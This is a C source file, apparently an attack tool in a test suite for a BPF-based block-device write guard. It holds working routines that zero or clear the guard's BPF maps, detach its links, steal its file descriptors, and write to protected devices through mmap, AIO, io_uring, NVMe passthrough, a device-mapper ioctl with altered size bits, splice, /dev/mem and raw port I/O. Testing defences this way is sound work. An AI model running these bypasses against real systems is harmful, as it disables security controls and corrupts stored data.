// SPDX-License-Identifier: GPL-2.0
/*
 * The attacker's tool for tests/attack: the write paths and guard switches that no stock command reaches,
 * as root, with raw syscalls. Each command prints what it did, and on a refusal the errno the kernel gave;
 * it exits 0 when the kernel let the attack through and 1 when it refused it (2 on a usage error).
 *
 *   bpf-zero-map NAME          zero the value of key 0 of every array map named NAME (the guard's .bss)
 *   bpf-clear-map NAME         delete every key of every hash map named NAME (the protected set)
 *   bpf-detach-links PREFIX    BPF_LINK_GET_FD_BY_ID + BPF_LINK_DETACH of every link whose program's name
 *                              starts with PREFIX
 *   pidfd-steal PID NAME       pidfd_getfd every fd of PID; zero the maps named NAME, detach the links
 *   hold-mmap DEV OFF          map DEV shared and writable at OFF now; on a line on stdin dirty it and msync
 *   aio-write FD OFF           an io_submit write of the attack pattern to the already open FD
 *   uring-write FD OFF         an IORING_OP_WRITE of the pattern to the already open FD
 *   uring-nvme-write NG LBA    IORING_OP_URING_CMD NVMe write (opcode 0x01) on a read-only fd of NG
 *   dm-load-resized DEV MAJ:MIN SECTORS
 *                              create dm device DEV, load a linear table over MAJ:MIN with DM_TABLE_LOAD
 *                              whose size bits are changed, resume it
 *   splice-write DEV           splice the pattern from a pipe into DEV opened for writing
 *   devmem                     open /dev/mem for writing
 *   iopl                       iopl(3): raw port I/O (an IDE or AHCI controller's registers)
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/aio_abi.h>
#include <linux/bpf.h>
#include <linux/dm-ioctl.h>
#include <linux/io_uring.h>
#include <linux/nvme_ioctl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/io.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>
#include <dirent.h>

#define PATTERN_LEN 4096

static unsigned char pattern[PATTERN_LEN] __attribute__((aligned(4096)));

/* The attacker's bytes: $ATTACK_TAG repeated (vm.sh sets one per attack), else "ATTACKER". */
static void fill_pattern(void)
{
	const char *word = getenv("ATTACK_TAG");
	size_t i, n;

	if (!word || !*word)
		word = "ATTACKER";
	n = strlen(word);
	for (i = 0; i < PATTERN_LEN; i++)
		pattern[i] = word[i % n];
}

static int refused(const char *what)
{
	int e = errno;

	printf("%s: refused: %s (errno %d)\n", what, strerror(e), e);
	return 1;
}

static long sys_bpf(int cmd, union bpf_attr *a)
{
	return syscall(__NR_bpf, cmd, a, sizeof(*a));
}

static int obj_info(int fd, void *info, __u32 len)
{
	union bpf_attr a = { 0 };

	a.info.bpf_fd = fd;
	a.info.info_len = len;
	a.info.info = (uintptr_t)info;
	return sys_bpf(BPF_OBJ_GET_INFO_BY_FD, &a);
}

static int by_id(int cmd, __u32 id)
{
	union bpf_attr a = { 0 };

	a.map_id = id;	/* prog_id, map_id and link_id share the slot */
	return sys_bpf(cmd, &a);
}

/* Zeroes key 0 of @fd (an array map) if its name is @name; returns 1 when done, 0 if not that map, -1. */
static int zero_map_fd(int fd, const char *name)
{
	struct bpf_map_info mi = { 0 };
	union bpf_attr a = { 0 };
	__u32 key = 0;
	void *val;

	if (obj_info(fd, &mi, sizeof(mi)) || strcmp(mi.name, name))
		return 0;
	val = calloc(1, mi.value_size);
	a.map_fd = fd;
	a.key = (uintptr_t)&key;
	a.value = (uintptr_t)val;
	if (sys_bpf(BPF_MAP_UPDATE_ELEM, &a)) {
		free(val);
		return refused("BPF_MAP_UPDATE_ELEM"), -1;
	}
	free(val);
	printf("map %u (%s): key 0 zeroed (%u bytes)\n", mi.id, mi.name, mi.value_size);
	return 1;
}

static int clear_map_fd(int fd, const char *name)
{
	struct bpf_map_info mi = { 0 };
	union bpf_attr a = { 0 };
	__u32 key, n = 0;

	if (obj_info(fd, &mi, sizeof(mi)) || strcmp(mi.name, name) || mi.key_size != sizeof(key))
		return 0;
	for (;;) {
		a.map_fd = fd;
		a.key = 0;
		a.next_key = (uintptr_t)&key;
		if (sys_bpf(BPF_MAP_GET_NEXT_KEY, &a))
			break;
		memset(&a, 0, sizeof(a));
		a.map_fd = fd;
		a.key = (uintptr_t)&key;
		if (sys_bpf(BPF_MAP_DELETE_ELEM, &a))
			return refused("BPF_MAP_DELETE_ELEM"), -1;
		n++;
	}
	printf("map %u (%s): %u keys deleted\n", mi.id, mi.name, n);
	return n ? 1 : 0;
}

/* Detaches link @fd if its program's name starts with @prefix: 1 done, 0 not ours, -1 refused. */
static int detach_link_fd(int fd, const char *prefix)
{
	struct bpf_link_info li = { 0 };
	struct bpf_prog_info pi = { 0 };
	union bpf_attr a = { 0 };
	int pfd;

	if (obj_info(fd, &li, sizeof(li)))
		return 0;
	pfd = by_id(BPF_PROG_GET_FD_BY_ID, li.prog_id);
	if (pfd < 0)
		return refused("BPF_PROG_GET_FD_BY_ID"), -1;
	if (obj_info(pfd, &pi, sizeof(pi)) || strncmp(pi.name, prefix, strlen(prefix))) {
		close(pfd);
		return 0;
	}
	close(pfd);
	a.link_detach.link_fd = fd;
	if (sys_bpf(BPF_LINK_DETACH, &a))
		return refused("BPF_LINK_DETACH"), -1;
	printf("link %u (prog %s): detached\n", li.id, pi.name);
	return 1;
}

/* Walks every map (or link) by id; @fn on each fd. */
static int each_id(int next_cmd, int fd_cmd, int (*fn)(int, const char *), const char *arg)
{
	union bpf_attr a = { 0 };
	int done = 0, failed = 0, r, fd;
	__u32 id = 0;

	for (;;) {
		memset(&a, 0, sizeof(a));
		a.start_id = id;
		if (sys_bpf(next_cmd, &a))
			break;
		id = a.next_id;
		fd = by_id(fd_cmd, id);
		if (fd < 0) {
			failed = 1;
			refused("BPF_*_GET_FD_BY_ID");
			continue;
		}
		r = fn(fd, arg);
		close(fd);
		done += r > 0;
		failed |= r < 0;
	}
	if (!done && !failed)
		printf("no bpf object named %s\n", arg);
	return done && !failed ? 0 : 1;
}

static int pidfd_steal(int pid, const char *name)
{
	char path[64];
	struct dirent *de;
	int pidfd, fd, n = 0, failed = 0, r;
	DIR *d;

	pidfd = syscall(SYS_pidfd_open, pid, 0);
	if (pidfd < 0)
		return refused("pidfd_open");
	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	d = opendir(path);
	if (!d)
		return refused(path);
	while ((de = readdir(d))) {
		if (de->d_name[0] == '.')
			continue;
		fd = syscall(SYS_pidfd_getfd, pidfd, atoi(de->d_name), 0);
		if (fd < 0) {
			refused("pidfd_getfd");
			failed = 1;
			continue;
		}
		r = zero_map_fd(fd, name);
		if (!r)
			r = detach_link_fd(fd, "guard_");
		n += r > 0;
		failed |= r < 0;
		close(fd);
	}
	closedir(d);
	printf("%d guard objects taken from pid %d\n", n, pid);
	return n && !failed ? 0 : 1;
}

static int hold_mmap(const char *dev, off_t off)
{
	char line[16];
	void *p;
	int fd;

	fd = open(dev, O_RDWR);
	if (fd < 0)
		return refused("open O_RDWR");
	p = mmap(NULL, PATTERN_LEN, PROT_READ | PROT_WRITE, MAP_SHARED, fd, off);
	if (p == MAP_FAILED)
		return refused("mmap MAP_SHARED PROT_WRITE");
	close(fd);
	printf("mapped\n");
	fflush(stdout);
	if (!fgets(line, sizeof(line), stdin))
		return 2;
	memcpy(p, pattern, PATTERN_LEN);
	if (msync(p, PATTERN_LEN, MS_SYNC))
		return refused("msync");
	printf("dirtied the shared mapping and msync'ed it: accepted\n");
	return 0;
}

static int aio_write(int fd, off_t off)
{
	aio_context_t ctx = 0;
	struct iocb cb = { 0 }, *cbs[1] = { &cb };
	struct io_event ev;

	if (syscall(SYS_io_setup, 1, &ctx))
		return refused("io_setup");
	cb.aio_fildes = fd;
	cb.aio_lio_opcode = IOCB_CMD_PWRITE;
	cb.aio_buf = (uintptr_t)pattern;
	cb.aio_nbytes = PATTERN_LEN;
	cb.aio_offset = off;
	if (syscall(SYS_io_submit, ctx, 1, cbs) != 1)
		return refused("io_submit");
	if (syscall(SYS_io_getevents, ctx, 1, 1, &ev, NULL) != 1)
		return refused("io_getevents");
	if ((long long)ev.res < 0) {
		errno = -ev.res;
		return refused("aio write");
	}
	if (fsync(fd))
		return refused("fsync");
	printf("aio write of %lld bytes: accepted\n", (long long)ev.res);
	return 0;
}

struct ring {
	int fd;
	unsigned int *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail, *cq_mask;
	void *sqes, *cqes;
	unsigned int cqe_size;
};

static int ring_setup(struct ring *r, unsigned int flags)
{
	struct io_uring_params p = { .flags = flags };
	unsigned int sqe_size = flags & IORING_SETUP_SQE128 ? 128 : 64;
	char *sq, *cq;

	r->cqe_size = flags & IORING_SETUP_CQE32 ? 32 : 16;
	r->fd = syscall(__NR_io_uring_setup, 4, &p);
	if (r->fd < 0)
		return refused("io_uring_setup");
	sq = mmap(NULL, p.sq_off.array + p.sq_entries * 4, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE,
		  r->fd, IORING_OFF_SQ_RING);
	cq = mmap(NULL, p.cq_off.cqes + p.cq_entries * r->cqe_size, PROT_READ | PROT_WRITE,
		  MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_CQ_RING);
	r->sqes = mmap(NULL, p.sq_entries * sqe_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd,
		       IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || r->sqes == MAP_FAILED)
		return refused("mmap io_uring");
	r->sq_tail = (unsigned int *)(sq + p.sq_off.tail);
	r->sq_mask = (unsigned int *)(sq + p.sq_off.ring_mask);
	r->sq_array = (unsigned int *)(sq + p.sq_off.array);
	r->cq_head = (unsigned int *)(cq + p.cq_off.head);
	r->cq_tail = (unsigned int *)(cq + p.cq_off.tail);
	r->cq_mask = (unsigned int *)(cq + p.cq_off.ring_mask);
	r->cqes = cq + p.cq_off.cqes;
	memset(r->sqes, 0, p.sq_entries * sqe_size);
	return 0;
}

/* Submits SQE 0 and returns the completion's result. */
static int ring_run(struct ring *r, int *res)
{
	unsigned int tail = *r->sq_tail;
	struct io_uring_cqe *cqe;

	r->sq_array[tail & *r->sq_mask] = 0;
	__atomic_store_n(r->sq_tail, tail + 1, __ATOMIC_RELEASE);
	if (syscall(__NR_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		return refused("io_uring_enter");
	if (__atomic_load_n(r->cq_tail, __ATOMIC_ACQUIRE) == *r->cq_head) {
		errno = EAGAIN;
		return refused("io_uring completion");
	}
	cqe = (void *)((char *)r->cqes + (*r->cq_head & *r->cq_mask) * r->cqe_size);
	*res = cqe->res;
	__atomic_store_n(r->cq_head, *r->cq_head + 1, __ATOMIC_RELEASE);
	return 0;
}

static int uring_write(int fd, off_t off)
{
	struct io_uring_sqe *sqe;
	struct ring r;
	int res;

	if (ring_setup(&r, 0))
		return 1;
	sqe = r.sqes;
	sqe->opcode = IORING_OP_WRITE;
	sqe->fd = fd;
	sqe->addr = (uintptr_t)pattern;
	sqe->len = PATTERN_LEN;
	sqe->off = off;
	if (ring_run(&r, &res))
		return 1;
	if (res < 0) {
		errno = -res;
		return refused("IORING_OP_WRITE");
	}
	if (fsync(fd))
		return refused("fsync");
	printf("io_uring write of %d bytes: accepted\n", res);
	return 0;
}

static int uring_nvme_write(const char *ng, unsigned long long lba)
{
	struct nvme_uring_cmd *c;
	struct io_uring_sqe *sqe;
	struct ring r;
	int fd, res, nsid;

	fd = open(ng, O_RDONLY);
	if (fd < 0)
		return refused("open O_RDONLY");
	nsid = ioctl(fd, NVME_IOCTL_ID);
	if (nsid <= 0)
		return refused("NVME_IOCTL_ID");
	if (ring_setup(&r, IORING_SETUP_SQE128 | IORING_SETUP_CQE32))
		return 1;
	sqe = r.sqes;
	sqe->opcode = IORING_OP_URING_CMD;
	sqe->fd = fd;
	sqe->cmd_op = NVME_URING_CMD_IO;
	c = (struct nvme_uring_cmd *)sqe->cmd;
	c->opcode = 0x01;	/* NVM write */
	c->nsid = nsid;
	c->addr = (uintptr_t)pattern;
	c->data_len = PATTERN_LEN;
	c->cdw10 = lba & 0xffffffff;
	c->cdw11 = lba >> 32;
	c->cdw12 = PATTERN_LEN / 512 - 1;	/* 0-based block count, 512-byte LBAs */
	if (ring_run(&r, &res))
		return 1;
	if (res < 0) {
		errno = -res;
		return refused("IORING_OP_URING_CMD NVMe write");
	}
	if (res > 0) {
		printf("NVMe status 0x%x\n", res);
		return 1;
	}
	printf("IORING_OP_URING_CMD NVMe write on a read-only fd of %s: accepted\n", ng);
	return 0;
}

static int dm_ioctl(int ctl, unsigned long cmd, struct dm_ioctl *io, const char *what)
{
	if (ioctl(ctl, cmd, io))
		return refused(what);
	return 0;
}

static void dm_init(struct dm_ioctl *io, size_t size, const char *name)
{
	memset(io, 0, size);
	io->version[0] = DM_VERSION_MAJOR;
	io->data_size = size;
	io->data_start = sizeof(*io);
	snprintf(io->name, sizeof(io->name), "%s", name);
}

static int dm_load_resized(const char *name, const char *majmin, unsigned long long sectors)
{
	struct {
		struct dm_ioctl io;
		struct dm_target_spec spec;
		char params[64];
	} b;
	/* DM_TABLE_LOAD with the size bits of a 16-byte argument: the kernel dispatches on the number only. */
	unsigned long resized = _IOC(_IOC_READ | _IOC_WRITE, DM_IOCTL, DM_TABLE_LOAD_CMD, 16);
	int ctl;

	ctl = open("/dev/mapper/control", O_RDWR);
	if (ctl < 0)
		return refused("open /dev/mapper/control");
	dm_init(&b.io, sizeof(b), name);
	if (dm_ioctl(ctl, DM_DEV_CREATE, &b.io, "DM_DEV_CREATE"))
		return 1;
	dm_init(&b.io, sizeof(b), name);
	b.io.target_count = 1;
	b.spec.sector_start = 0;
	b.spec.length = sectors;
	snprintf(b.spec.target_type, sizeof(b.spec.target_type), "linear");
	snprintf(b.params, sizeof(b.params), "%s 0", majmin);
	b.spec.next = 0;
	printf("DM_TABLE_LOAD is 0x%lx, sending 0x%lx\n", (unsigned long)DM_TABLE_LOAD, resized);
	if (dm_ioctl(ctl, resized, &b.io, "DM_TABLE_LOAD (resized)"))
		return 1;
	dm_init(&b.io, sizeof(b), name);
	if (dm_ioctl(ctl, DM_DEV_SUSPEND, &b.io, "DM_DEV_SUSPEND (resume)"))
		return 1;
	printf("/dev/mapper/%s maps %s: accepted\n", name, majmin);
	return 0;
}

static int splice_write(const char *dev)
{
	int p[2], fd;
	ssize_t n;

	fd = open(dev, O_WRONLY);
	if (fd < 0)
		return refused("open O_WRONLY");
	if (pipe(p) || write(p[1], pattern, PATTERN_LEN) != PATTERN_LEN)
		return refused("pipe");
	n = splice(p[0], NULL, fd, NULL, PATTERN_LEN, 0);
	if (n < 0)
		return refused("splice");
	fsync(fd);
	printf("spliced %zd bytes: accepted\n", n);
	return 0;
}

int main(int argc, char **argv)
{
	const char *cmd = argc > 1 ? argv[1] : "";

	fill_pattern();
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (!strcmp(cmd, "bpf-zero-map") && argc == 3)
		return each_id(BPF_MAP_GET_NEXT_ID, BPF_MAP_GET_FD_BY_ID, zero_map_fd, argv[2]);
	if (!strcmp(cmd, "bpf-clear-map") && argc == 3)
		return each_id(BPF_MAP_GET_NEXT_ID, BPF_MAP_GET_FD_BY_ID, clear_map_fd, argv[2]);
	if (!strcmp(cmd, "bpf-detach-links") && argc == 3)
		return each_id(BPF_LINK_GET_NEXT_ID, BPF_LINK_GET_FD_BY_ID, detach_link_fd, argv[2]);
	if (!strcmp(cmd, "pidfd-steal") && argc == 4)
		return pidfd_steal(atoi(argv[2]), argv[3]);
	if (!strcmp(cmd, "hold-mmap") && argc == 4)
		return hold_mmap(argv[2], strtoll(argv[3], NULL, 0));
	if (!strcmp(cmd, "aio-write") && argc == 4)
		return aio_write(atoi(argv[2]), strtoll(argv[3], NULL, 0));
	if (!strcmp(cmd, "uring-write") && argc == 4)
		return uring_write(atoi(argv[2]), strtoll(argv[3], NULL, 0));
	if (!strcmp(cmd, "uring-nvme-write") && argc == 4)
		return uring_nvme_write(argv[2], strtoull(argv[3], NULL, 0));
	if (!strcmp(cmd, "dm-load-resized") && argc == 5)
		return dm_load_resized(argv[2], argv[3], strtoull(argv[4], NULL, 0));
	if (!strcmp(cmd, "splice-write") && argc == 3)
		return splice_write(argv[2]);
	if (!strcmp(cmd, "devmem"))
		return open("/dev/mem", O_RDWR) < 0 ? refused("open /dev/mem O_RDWR") :
		       (printf("/dev/mem open for writing: accepted\n"), 0);
	if (!strcmp(cmd, "iopl"))
		return iopl(3) ? refused("iopl(3)") : (printf("iopl(3): accepted\n"), 0);
	fprintf(stderr, "usage: see the head of tests/attack/attack_tool.c\n");
	return 2;
}
